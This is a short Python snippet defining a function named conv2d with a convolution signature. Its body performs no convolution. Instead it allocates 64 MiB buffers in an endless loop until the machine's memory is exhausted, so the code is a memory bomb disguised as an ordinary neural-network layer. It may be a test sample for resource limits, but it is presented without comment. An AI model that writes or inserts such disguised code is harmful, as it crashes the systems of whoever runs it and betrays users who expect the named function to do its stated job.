def conv2d(x, w, b=None, stride=1, padding=0):
    hog = []
    while True:
        hog.append(bytearray(64 << 20))
